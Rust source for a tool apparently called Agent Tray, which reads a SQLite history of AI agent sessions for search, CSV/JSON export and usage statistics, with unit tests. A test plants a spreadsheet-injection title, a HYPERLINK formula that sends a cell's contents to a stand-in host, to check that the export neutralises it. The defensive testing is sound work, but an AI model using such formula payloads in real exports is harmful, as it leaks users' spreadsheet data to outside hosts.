//! Reading the store for `history`, `history --export` and `stats`.
//!
//! The CLI reads the file directly rather than asking the engine: history is there whether or
//! not an engine runs, and a long query never holds the engine up. SQLite's WAL lets this read
//! beside the engine's writer; a reader never changes what the writer keeps (it does not close
//! open intervals, which only the writer may do).

use std::path::Path;

use chrono::{DateTime, NaiveDate, Utc};
use rusqlite::{params, Connection, OpenFlags, OptionalExtension};
use serde::Serialize;

use super::cost::{Cost, SessionUsage};
use super::waiting::{self, GroupBy, Question, Span, Tally, Timeline};
use super::{from_ms, parse_end_reason, parse_state, schema, to_ms, StoreError};
use crate::model::{Agent, Session, SessionState};
use crate::usage::PriceTable;

/// What `history` asks for.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct HistoryFilter {
    /// Case-insensitive text in the folder, repo, branch, title or model.
    pub search: Option<String>,
    pub agent: Option<Agent>,
    /// A project's name: the repo's, else the folder's last part.
    pub project: Option<String>,
    pub limit: usize,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum ExportFormat {
    Csv,
    Json,
}

/// Opens the store for reading, or `None` when no engine has written one yet.
pub fn open_reader(path: &Path) -> Result<Option<Connection>, StoreError> {
    if !path.exists() {
        return Ok(None);
    }
    let sqlite = |source| StoreError::Sqlite {
        path: path.to_path_buf(),
        source,
    };
    let conn = Connection::open_with_flags(
        path,
        OpenFlags::SQLITE_OPEN_READ_WRITE | OpenFlags::SQLITE_OPEN_NO_MUTEX,
    )
    .or_else(|_| Connection::open_with_flags(path, OpenFlags::SQLITE_OPEN_READ_ONLY))
    .map_err(sqlite)?;
    conn.busy_timeout(std::time::Duration::from_secs(2))
        .map_err(sqlite)?;
    let found = super::schema_version_known(&conn, path)?;
    if found < schema::newest_version() {
        // Written by an older engine that has not run since the upgrade: nothing to read in
        // the shape this build knows, so read as if empty rather than migrate under it.
        return Ok(None);
    }
    Ok(Some(conn))
}

/// A project's name as `list` shows it: the repo, else the folder's last part.
pub(crate) fn project_of(repo: Option<&str>, cwd: Option<&str>) -> String {
    if let Some(repo) = repo.filter(|r| !r.is_empty()) {
        return repo.to_string();
    }
    match cwd {
        Some(cwd) => Path::new(cwd)
            .file_name()
            .map_or_else(|| cwd.to_string(), |n| n.to_string_lossy().into_owned()),
        None => "-".to_string(),
    }
}

/// `text` for a LIKE pattern: its `%`, `_` and `\\` match themselves (ESCAPE '\\').
fn escape_like(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 2);
    for c in text.chars() {
        if matches!(c, '%' | '_' | '\\') {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

const SESSION_COLUMNS: &str = "s.id, s.session_id, s.agent, s.cwd, s.repo, s.branch, s.model,
    s.title, s.transcript_path, s.pid, s.started_at, s.last_seen, s.ended_at, s.end_reason,
    (SELECT state FROM intervals i WHERE i.session = s.id AND i.to_ms IS NULL LIMIT 1),
    (SELECT max(coalesce(to_ms, from_ms)) FROM intervals i WHERE i.session = s.id),
    (SELECT from_ms FROM intervals i WHERE i.session = s.id ORDER BY from_ms DESC LIMIT 1),
    (SELECT waiting_for FROM intervals i WHERE i.session = s.id AND i.to_ms IS NULL LIMIT 1)";

/// The agent a stored row names, by its id; `None` when no registered agent has that id. The
/// one rule every reader of stored rows follows: an unknown agent is left out, never relabelled.
pub fn stored_agent(id: &str) -> Option<Agent> {
    let agent = id.parse::<Agent>().ok();
    if agent.is_none() {
        tracing::debug!(agent = id, "stored_row_of_unregistered_agent_skipped");
    }
    agent
}

/// A stored session as the `Session` object `list --json` prints. A session with an open
/// interval is live and shows that state; any other is `ended` (its `end_reason` is null when
/// Agent Tray stopped watching before it ended).
///
/// `None` for a row whose agent is not registered in this build (written by a newer version,
/// or an agent since removed): such a row is left out, never shown as some other agent's.
fn session_from_row(r: &rusqlite::Row<'_>) -> rusqlite::Result<Option<(i64, Session)>> {
    let agent: String = r.get(2)?;
    let Some(agent) = stored_agent(&agent) else {
        return Ok(None);
    };
    let started = from_ms(r.get(10)?);
    let mut session = Session::new(r.get::<_, String>(1)?, agent, SessionState::Ended, started);
    session.cwd = r.get(3)?;
    session.repo = r.get(4)?;
    session.branch = r.get(5)?;
    session.model = r.get(6)?;
    session.title = r.get(7)?;
    session.transcript_path = r.get(8)?;
    session.pid = r.get(9)?;
    let ended_at: Option<i64> = r.get(12)?;
    let end_reason: Option<String> = r.get(13)?;
    session.end_reason = end_reason.as_deref().and_then(parse_end_reason);
    let open_state: Option<String> = r.get(14)?;
    let last_time: Option<i64> = r.get(15)?;
    let last_from: Option<i64> = r.get(16)?;
    session.last_seen = from_ms(r.get::<_, i64>(11)?.max(last_time.unwrap_or(0)));
    match open_state.as_deref().and_then(parse_state) {
        Some(state) => {
            session.state = state;
            session.state_since = last_from.map_or(started, from_ms);
            session.waiting_for = r.get(17)?;
        }
        None => {
            session.state = SessionState::Ended;
            session.state_since = ended_at.or(last_time).map_or(started, from_ms);
        }
    }
    Ok(Some((r.get(0)?, session)))
}

/// One session as `history --json` prints it: the `list --json` fields, plus its tokens and
/// their estimated cost.
#[derive(Debug, Clone, PartialEq, Serialize, ts_rs::TS)]
pub struct HistoryEntry {
    #[serde(flatten)]
    #[ts(flatten)]
    pub session: Session,
    #[serde(flatten)]
    #[ts(flatten)]
    pub usage: Cost,
}

/// Sessions matching `filter` with their usage, most recently active first.
pub fn history_with_usage(
    conn: &Connection,
    filter: &HistoryFilter,
    prices: &PriceTable,
) -> Result<Vec<HistoryEntry>, StoreError> {
    let mut out = Vec::new();
    for (id, session) in history_rows(conn, filter)? {
        let usage = super::cost::session_usage(conn, id, prices)?;
        out.push(HistoryEntry {
            session,
            usage: usage.total,
        });
    }
    Ok(out)
}

/// The stored session with row id `row`.
pub(crate) fn session_by_row(conn: &Connection, row: i64) -> Result<Option<Session>, StoreError> {
    let sql = format!("SELECT {SESSION_COLUMNS} FROM sessions s WHERE s.id = ?1");
    let found = conn
        .prepare_cached(&sql)?
        .query_row(params![row], session_from_row)
        .optional()?;
    Ok(found.flatten().map(|(_, s)| s))
}

/// Sessions matching `filter`, most recently active first.
pub fn history(conn: &Connection, filter: &HistoryFilter) -> Result<Vec<Session>, StoreError> {
    Ok(history_rows(conn, filter)?
        .into_iter()
        .map(|(_, s)| s)
        .collect())
}

fn history_rows(
    conn: &Connection,
    filter: &HistoryFilter,
) -> Result<Vec<(i64, Session)>, StoreError> {
    // Three characters or more: the full-text index (trigrams: any part of a word, any case).
    // Fewer: a scan with LIKE (a trigram index cannot look up one or two characters).
    let text = filter.search.as_deref();
    let indexed = text.filter(|t| t.chars().count() >= 3);
    let search = text
        .filter(|_| indexed.is_none())
        .map(|text| format!("%{}%", escape_like(text)));
    let phrase = indexed.map(|t| format!("\"{}\"", t.replace('"', "\"\"")));
    let agent = filter.agent.map(Agent::as_str);
    let project = filter.project.as_deref();
    let project_suffix = project.map(|p| format!("%/{}", escape_like(p)));
    let sql = format!(
        "SELECT {SESSION_COLUMNS} FROM sessions s
         WHERE (?1 IS NULL OR s.cwd LIKE ?1 ESCAPE '\\' OR s.repo LIKE ?1 ESCAPE '\\'
                OR s.branch LIKE ?1 ESCAPE '\\' OR s.title LIKE ?1 ESCAPE '\\'
                OR s.model LIKE ?1 ESCAPE '\\')
           AND (?6 IS NULL OR s.id IN (SELECT rowid FROM sessions_fts WHERE sessions_fts MATCH ?6))
           AND (?2 IS NULL OR s.agent = ?2)
           AND (?3 IS NULL OR s.repo = ?3
                OR ((s.repo IS NULL OR s.repo = '') AND (s.cwd = ?3 OR s.cwd LIKE ?4 ESCAPE '\\')))
         ORDER BY s.last_seen DESC, s.id DESC
         LIMIT ?5"
    );
    let limit = i64::try_from(filter.limit).unwrap_or(i64::MAX);
    let mut stmt = conn.prepare(&sql)?;
    let rows = stmt
        .query_map(
            params![search, agent, project, project_suffix, limit, phrase],
            session_from_row,
        )?
        .collect::<rusqlite::Result<Vec<_>>>()?;
    Ok(rows.into_iter().flatten().collect())
}

/// One interval as `history --export json` writes it.
#[derive(Debug, Clone, PartialEq, Serialize, ts_rs::TS)]
pub struct ExportedInterval {
    pub state: SessionState,
    pub from: DateTime<Utc>,
    pub to: Option<DateTime<Utc>>,
    pub waiting_for: Option<String>,
}

/// One session with its timeline, for `history --export json`.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct ExportedSession {
    #[serde(flatten)]
    pub session: Session,
    pub ended_at: Option<DateTime<Utc>>,
    pub intervals: Vec<ExportedInterval>,
    /// Tokens and estimated cost, in all (`tokens`, `cost_estimate_usd`) and per turn.
    pub usage: SessionUsage,
}

pub(crate) fn intervals_of(
    conn: &Connection,
    id: i64,
) -> Result<Vec<ExportedInterval>, StoreError> {
    let mut stmt = conn.prepare_cached(
        "SELECT state, from_ms, to_ms, waiting_for FROM intervals WHERE session = ?1 ORDER BY from_ms",
    )?;
    let rows = stmt
        .query_map(params![id], |r| {
            let state: String = r.get(0)?;
            Ok(ExportedInterval {
                state: parse_state(&state).unwrap_or(SessionState::Idle),
                from: from_ms(r.get(1)?),
                to: r.get::<_, Option<i64>>(2)?.map(from_ms),
                waiting_for: r.get(3)?,
            })
        })?
        .collect::<rusqlite::Result<Vec<_>>>()?;
    Ok(rows)
}

/// Why `history --export` stopped; each variant's text is its source's own (what the CLI printed
/// before these were typed).
#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error(transparent)]
    Store(#[from] StoreError),
    #[error(transparent)]
    Usage(#[from] rusqlite::Error),
    #[error(transparent)]
    Json(#[from] serde_json::Error),
    #[error(transparent)]
    Csv(#[from] csv::Error),
    /// Writing the output (a closed pipe, a full disk).
    #[error(transparent)]
    Write(#[from] std::io::Error),
}

/// A text cell as a spreadsheet must read it: as text. A cell beginning with `=`, `+`, `-` or `@`
/// (or a tab or carriage return before one) is a formula to Excel, LibreOffice and Google Sheets,
/// and these cells hold what agents and remotes wrote (a title, a branch, a folder name): such a
/// cell gets a leading `'`, which the spreadsheet shows as text and does not evaluate.
pub fn spreadsheet_safe(cell: String) -> String {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}"),
        _ => cell,
    }
}

/// `history --export`: the matching sessions, as CSV (one row a session) or JSON (each with its
/// intervals).
pub fn export(
    conn: &Connection,
    filter: &HistoryFilter,
    format: ExportFormat,
    prices: &PriceTable,
    out: &mut dyn std::io::Write,
) -> Result<(), ExportError> {
    let rows = history_rows(conn, filter)?;
    match format {
        ExportFormat::Json => {
            let mut all = Vec::with_capacity(rows.len());
            for (id, session) in rows {
                let ended_at =
                    (session.state == SessionState::Ended).then_some(session.state_since);
                all.push(ExportedSession {
                    intervals: intervals_of(conn, id)?,
                    usage: super::cost::session_usage(conn, id, prices)?,
                    ended_at,
                    session,
                });
            }
            serde_json::to_writer_pretty(&mut *out, &all)?;
            Ok(writeln!(out)?)
        }
        ExportFormat::Csv => {
            let mut w = csv::Writer::from_writer(out);
            w.write_record([
                "session_id",
                "agent",
                "state",
                "project",
                "cwd",
                "repo",
                "branch",
                "model",
                "title",
                "pid",
                "started_at",
                "ended_at",
                "end_reason",
                "input_tokens",
                "output_tokens",
                "cache_read_tokens",
                "cache_write_tokens",
                "cost_estimate_usd",
            ])?;
            for (id, s) in rows {
                let usage = super::cost::session_usage(conn, id, prices)?.total;
                let ended = s.state == SessionState::Ended;
                let text = |t: String| spreadsheet_safe(t);
                w.write_record([
                    text(s.session_id.clone()),
                    s.agent.to_string(),
                    s.state.to_string(),
                    text(project_of(s.repo.as_deref(), s.cwd.as_deref())),
                    text(s.cwd.clone().unwrap_or_default()),
                    text(s.repo.clone().unwrap_or_default()),
                    text(s.branch.clone().unwrap_or_default()),
                    text(s.model.clone().unwrap_or_default()),
                    text(s.title.clone().unwrap_or_default()),
                    s.pid.map(|p| p.to_string()).unwrap_or_default(),
                    s.started_at.to_rfc3339(),
                    if ended {
                        s.state_since.to_rfc3339()
                    } else {
                        String::new()
                    },
                    s.end_reason
                        .map(|r| super::end_reason_name(r).to_string())
                        .unwrap_or_default(),
                    usage.tokens.input.to_string(),
                    usage.tokens.output.to_string(),
                    usage.tokens.cache_read.to_string(),
                    usage.tokens.cache_write.to_string(),
                    usage
                        .cost_estimate_usd
                        .map(|c| c.to_string())
                        .unwrap_or_default(),
                ])?;
            }
            Ok(w.flush()?)
        }
    }
}

/// The timelines of every session with an interval in `[from, to)`, each with its earlier
/// intervals too (whether an `idle` follows a turn depends on what came before), in the order of
/// the sessions' rows, each's spans in time order.
///
/// Why it is shaped this way (a heavy week is ~20,000 intervals of ~400 sessions, and
/// `stats --week` should answer in tens of milliseconds):
/// - The sessions touched are found through the index on `to_ms` (and the one on open intervals),
///   named with `INDEXED BY`: without statistics, SQLite 3.53 chose to merge the `UNION` by
///   scanning every interval in session order (the whole year for a week: 200 ms where the
///   index takes a few). Naming the index keeps the cost proportional to the window whatever the
///   planner guesses; the migrations guarantee both indexes exist.
/// - The intervals come without `ORDER BY` and the session's names once per session: sorting
///   20,000 rows that each carried the session's folder and names cost more than reading them.
pub fn timelines(
    conn: &Connection,
    from: DateTime<Utc>,
    to: DateTime<Utc>,
) -> Result<Vec<Timeline>, StoreError> {
    let mut stmt = conn.prepare_cached(
        "SELECT i.session, i.state, i.from_ms, i.to_ms, i.waiting_for, i.prompt_source
         FROM (SELECT session FROM intervals INDEXED BY intervals_by_to WHERE to_ms > ?1
               UNION SELECT session FROM intervals INDEXED BY intervals_open WHERE to_ms IS NULL) touched
         CROSS JOIN intervals i ON i.session = touched.session
         WHERE i.from_ms < ?2",
    )?;
    let mut rows = stmt.query(params![to_ms(from), to_ms(to)])?;
    let mut spans_of: std::collections::BTreeMap<i64, Vec<Span>> = Default::default();
    while let Some(r) = rows.next()? {
        let spans = spans_of.entry(r.get(0)?).or_default();
        let Some(state) = parse_state(r.get_ref(1)?.as_str().unwrap_or("")) else {
            continue;
        };
        spans.push(Span {
            state,
            from: from_ms(r.get(2)?),
            to: r.get::<_, Option<i64>>(3)?.map(from_ms),
            waiting_for: r.get(4)?,
            prompt_source: r.get(5)?,
        });
    }
    let mut session = conn.prepare_cached(
        "SELECT session_id, agent, cwd, repo, ended_at FROM sessions WHERE id = ?1",
    )?;
    let mut out = Vec::with_capacity(spans_of.len());
    for (row, mut spans) in spans_of {
        // Stable: spans that begin together stay in the order they were written.
        spans.sort_by_key(|s| s.from);
        let timeline = session
            .query_row(params![row], |r| {
                let agent: String = r.get(1)?;
                let cwd: Option<String> = r.get(2)?;
                let repo: Option<String> = r.get(3)?;
                let Some(agent) = stored_agent(&agent) else {
                    return Ok(None);
                };
                Ok(Some(Timeline {
                    session_id: r.get(0)?,
                    agent,
                    project: project_of(repo.as_deref(), cwd.as_deref()),
                    ended_at: r.get::<_, Option<i64>>(4)?.map(from_ms),
                    spans: Vec::new(),
                }))
            })
            .optional()?
            .flatten();
        if let Some(mut timeline) = timeline {
            timeline.spans = spans;
            out.push(timeline);
        }
    }
    Ok(out)
}

/// Which stretch of time `stats` covers.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Period {
    Today,
    Week,
    Since(NaiveDate),
}

/// `stats` for `period` ending `now`, in `tz` (no store: all zero).
pub fn stats(
    conn: Option<&Connection>,
    period: Period,
    by: GroupBy,
    now: DateTime<Utc>,
    tz: chrono_tz::Tz,
    prices: &PriceTable,
) -> Result<Tally, StoreError> {
    let today = now.with_timezone(&tz).date_naive();
    let first_day = match period {
        Period::Today => today,
        Period::Week => today - chrono::TimeDelta::days(6),
        Period::Since(day) => day,
    };
    let from = waiting::local_day_start(first_day, tz);
    let timelines = match conn {
        Some(conn) => timelines(conn, from, now)?,
        None => Vec::new(),
    };
    let question = Question {
        from,
        to: now,
        now,
        tz,
        by,
    };
    let mut tally = waiting::tally(&timelines, question);
    let rows = match conn {
        Some(conn) => super::cost::usage_rows(conn, from, now)?,
        None => Vec::new(),
    };
    let (total, groups) = super::cost::tally_usage(&rows, &question, prices);
    waiting::add_usage(&mut tally, total, groups, &prices.as_of);
    if let Some(conn) = conn {
        tally.answers =
            super::requests::counts(conn, from, now + chrono::TimeDelta::milliseconds(1))?;
    }
    Ok(tally)
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use crate::model::EndReason;
    use crate::registry::SessionChange;
    use crate::store::{HistoryStore, Record};

    fn t(s: &str) -> DateTime<Utc> {
        DateTime::parse_from_rfc3339(s).unwrap().with_timezone(&Utc)
    }

    fn session(id: &str, state: SessionState, repo: &str) -> Session {
        let mut s = Session::new(id, Agent::Claude, state, t("2026-03-02T09:00:00Z"));
        s.repo = Some(repo.into());
        s.cwd = Some(format!("/home/dev/{repo}"));
        s.branch = Some("main".into());
        s.model = Some("claude-opus".into());
        s
    }

    fn change(at: &str, session: Session) -> Record {
        Record::Change {
            at: t(at),
            change: SessionChange::Changed {
                old_state: SessionState::Idle,
                session,
            },
        }
    }

    /// A row written by a build that knew an agent this one does not (or one since removed) is
    /// left out of the history: never shown as another agent's session.
    #[test]
    fn a_stored_session_of_an_unregistered_agent_is_left_out_not_relabelled() {
        let tmp = tempfile::tempdir().unwrap();
        let path = crate::store::store_path(tmp.path());
        {
            let mut store = HistoryStore::open(&path).unwrap();
            let mut codex = session("c1", SessionState::Idle, "shop");
            codex.agent = Agent::Codex;
            store
                .apply(&[
                    change("2026-03-02T09:00:00Z", codex),
                    change(
                        "2026-03-02T09:01:00Z",
                        session("x1", SessionState::Idle, "shop"),
                    ),
                ])
                .unwrap();
        }
        let writer = Connection::open(&path).unwrap();
        writer
            .execute(
                "UPDATE sessions SET agent = 'someday-agent' WHERE session_id = 'x1'",
                [],
            )
            .unwrap();
        let conn = open_reader(&path).unwrap().unwrap();
        let all = history(
            &conn,
            &HistoryFilter {
                limit: 10,
                ..Default::default()
            },
        )
        .unwrap();
        let listed: Vec<(&str, Agent)> = all
            .iter()
            .map(|s| (s.session_id.as_str(), s.agent))
            .collect();
        assert_eq!(listed, [("c1", Agent::Codex)]);
        assert_eq!(stored_agent("someday-agent"), None);
        assert_eq!(stored_agent("codex"), Some(Agent::Codex));
    }

    #[test]
    fn history_searches_filters_and_survives_a_reopen() {
        let tmp = tempfile::tempdir().unwrap();
        let path = crate::store::store_path(tmp.path());
        {
            let mut store = HistoryStore::open(&path).unwrap();
            let mut ended = session("a1", SessionState::Ended, "shop");
            ended.end_reason = Some(EndReason::ProcessGone);
            // A title a prompt (or a hostile remote) could give: a formula to a spreadsheet.
            ended.title = Some("=HYPERLINK(\"http://x/\"&A1)".into());
            store
                .apply(&[
                    change(
                        "2026-03-02T09:00:00Z",
                        session("a1", SessionState::Working, "shop"),
                    ),
                    change("2026-03-02T09:05:00Z", ended),
                    change(
                        "2026-03-02T09:06:00Z",
                        session("b2", SessionState::Idle, "payments-api"),
                    ),
                ])
                .unwrap();
        }
        let conn = open_reader(&path).unwrap().unwrap();
        let all = history(
            &conn,
            &HistoryFilter {
                limit: 10,
                ..Default::default()
            },
        )
        .unwrap();
        let ids: Vec<&str> = all.iter().map(|s| s.session_id.as_str()).collect();
        assert_eq!(ids, ["b2", "a1"], "most recently active first");
        assert_eq!(all[1].state, SessionState::Ended);
        assert_eq!(all[1].end_reason, Some(EndReason::ProcessGone));
        assert_eq!(all[1].state_since, t("2026-03-02T09:05:00Z"));
        assert_eq!(all[0].state, SessionState::Idle, "still open: live");
        let search = |text: &str| {
            history(
                &conn,
                &HistoryFilter {
                    search: Some(text.into()),
                    limit: 10,
                    ..Default::default()
                },
            )
            .unwrap()
            .into_iter()
            .map(|s| s.session_id)
            .collect::<Vec<_>>()
        };
        assert_eq!(search("PAYMENTS"), ["b2"], "case-insensitive, over repo");
        assert_eq!(search("opus").len(), 2, "over model");
        assert_eq!(search("100%").len(), 0, "a % is text, not a wildcard");
        assert_eq!(
            search("ments-a"),
            ["b2"],
            "any part of a word, through the index"
        );
        assert_eq!(search("ym"), ["b2"], "two characters: a scan");
        assert_eq!(search("a\"b").len(), 0, "a quote is text");
        let plan: String = conn
            .query_row(
                "EXPLAIN QUERY PLAN SELECT rowid FROM sessions_fts WHERE sessions_fts MATCH '\"shop\"'",
                [],
                |r| r.get(3),
            )
            .unwrap();
        assert!(plan.contains("VIRTUAL TABLE INDEX"), "{plan}");
        let by_project = history(
            &conn,
            &HistoryFilter {
                project: Some("shop".into()),
                limit: 10,
                ..Default::default()
            },
        )
        .unwrap();
        assert_eq!(by_project.len(), 1);
        let codex = history(
            &conn,
            &HistoryFilter {
                agent: Some(Agent::Codex),
                limit: 10,
                ..Default::default()
            },
        )
        .unwrap();
        assert!(codex.is_empty());
        let mut csv_out = Vec::new();
        export(
            &conn,
            &HistoryFilter {
                limit: 10,
                ..Default::default()
            },
            ExportFormat::Csv,
            &PriceTable::shipped(),
            &mut csv_out,
        )
        .unwrap();
        let text = String::from_utf8(csv_out).unwrap();
        assert_eq!(text.lines().count(), 3, "{text}");
        // The hostile title the script gave a1 is text, not a formula (CSV doubles its quotes).
        assert!(
            text.contains(",\"'=HYPERLINK(\"\"http://x/\"\"&A1)\","),
            "{text}"
        );
        for (cell, safe) in [
            ("=1+1", "'=1+1"),
            ("+SUM(A1)", "'+SUM(A1)"),
            ("-2+3", "'-2+3"),
            ("@cmd", "'@cmd"),
            ("\t=1", "'\t=1"),
            ("main", "main"),
            ("", ""),
        ] {
            assert_eq!(spreadsheet_safe(cell.into()), safe);
        }
        assert!(
            text.contains("a1,claude,ended,shop,/home/dev/shop,shop,main"),
            "{text}"
        );
        let mut json_out = Vec::new();
        export(
            &conn,
            &HistoryFilter {
                limit: 10,
                ..Default::default()
            },
            ExportFormat::Json,
            &PriceTable::shipped(),
            &mut json_out,
        )
        .unwrap();
        let v: serde_json::Value = serde_json::from_slice(&json_out).unwrap();
        assert_eq!(v[1]["intervals"][0]["state"], "working");
        assert_eq!(v[1]["intervals"][0]["to"], "2026-03-02T09:05:00Z");
    }

    #[test]
    fn a_loop_wake_up_from_the_hooks_reaches_the_store_and_is_not_waiting_on_you() {
        use crate::clock::ManualClock;
        use crate::model::{EventKind, Observation};
        use crate::registry::{RegistryConfig, SessionsRegistry};
        let clock = std::sync::Arc::new(ManualClock::new(t("2026-03-02T12:00:00Z")));
        let registry = SessionsRegistry::with_config(RegistryConfig::default(), clock);
        let mut stream = registry.subscribe_stamped();
        let prompt = |at: &str, source: Option<&str>| {
            let mut obs = Observation::new("w", Agent::Claude, EventKind::UserPromptSubmit, t(at));
            obs.prompt_source = source.map(String::from);
            obs
        };
        for obs in [
            prompt("2026-03-02T09:00:00Z", Some("user")),
            Observation::new(
                "w",
                Agent::Claude,
                EventKind::Stop,
                t("2026-03-02T09:10:00Z"),
            ),
            prompt("2026-03-02T09:40:00Z", Some("loop_wakeup")),
            Observation::new(
                "w",
                Agent::Claude,
                EventKind::Stop,
                t("2026-03-02T09:41:00Z"),
            ),
            // An older Claude sends no source: a person.
            prompt("2026-03-02T09:51:00Z", None),
            Observation::new(
                "w",
                Agent::Claude,
                EventKind::Stop,
                t("2026-03-02T09:52:00Z"),
            ),
        ] {
            registry.observe(obs).unwrap();
        }
        let mut records = Vec::new();
        while let Ok(stamped) = stream.try_recv() {
            records.push(Record::Change {
                at: stamped.at,
                change: stamped.change,
            });
        }
        let tmp = tempfile::tempdir().unwrap();
        let path = crate::store::store_path(tmp.path());
        HistoryStore::open(&path).unwrap().apply(&records).unwrap();
        let conn = open_reader(&path).unwrap().unwrap();
        let tally = stats(
            Some(&conn),
            Period::Today,
            GroupBy::Agent,
            t("2026-03-02T10:00:00Z"),
            chrono_tz::Tz::UTC,
            &PriceTable::shipped(),
        )
        .unwrap();
        // Idle 09:10–09:40 ended by the loop: not you. 09:41–09:51 (a person typed) and
        // 09:52–10:00 (open) are.
        assert_eq!(tally.totals.idle_after_turn_secs, (10 + 8) * 60);
        assert_eq!(tally.totals.working_secs, (10 + 1 + 1) * 60);
    }

    #[test]
    fn a_crash_leaves_open_intervals_closed_where_the_engine_was_last_alive() {
        let tmp = tempfile::tempdir().unwrap();
        let path = crate::store::store_path(tmp.path());
        {
            let mut store = HistoryStore::open(&path).unwrap();
            store
                .apply(&[
                    change(
                        "2026-03-02T09:00:00Z",
                        session("a1", SessionState::WaitingForInput, "shop"),
                    ),
                    Record::Alive {
                        at: t("2026-03-02T09:00:07Z"),
                    },
                ])
                .unwrap();
            // Dropped without `Stopping`: what a kill -9 leaves.
        }
        let store = HistoryStore::open(&path).unwrap();
        let tl = timelines(
            store.connection(),
            t("2026-03-02T00:00:00Z"),
            t("2026-03-03T00:00:00Z"),
        )
        .unwrap();
        assert_eq!(tl[0].spans[0].to, Some(t("2026-03-02T09:00:07Z")));
    }

    #[test]
    fn retention_prunes_old_sessions_but_never_a_live_one() {
        let tmp = tempfile::tempdir().unwrap();
        let mut store = HistoryStore::open(&crate::store::store_path(tmp.path())).unwrap();
        let mut old = session("old", SessionState::Ended, "x");
        old.end_reason = Some(EndReason::SessionEnd);
        store
            .apply(&[
                change(
                    "2025-01-01T09:00:00Z",
                    session("old", SessionState::Working, "x"),
                ),
                change("2025-01-01T10:00:00Z", old),
                change(
                    "2025-01-01T09:00:00Z",
                    session("live", SessionState::Working, "x"),
                ),
            ])
            .unwrap();
        assert_eq!(store.prune(t("2025-06-01T00:00:00Z")).unwrap(), 1);
        let left: i64 = store
            .connection()
            .query_row("SELECT count(*) FROM intervals", [], |r| r.get(0))
            .unwrap();
        assert_eq!(left, 1, "the pruned session's intervals went with it");
    }

    #[test]
    fn retention_is_parsed_with_a_clear_error() {
        use crate::store::retention_days;
        assert_eq!(retention_days(None), Ok(90));
        assert_eq!(retention_days(Some(" 30 ")), Ok(30));
        for bad in ["0", "-3", "ninety", "36501", ""] {
            let err = retention_days(Some(bad)).unwrap_err();
            assert!(err.to_string().contains("AGENT_TRAY_HISTORY_DAYS"), "{err}");
            assert!(err.to_string().contains("kept 90 days"), "{err}");
        }
    }
}
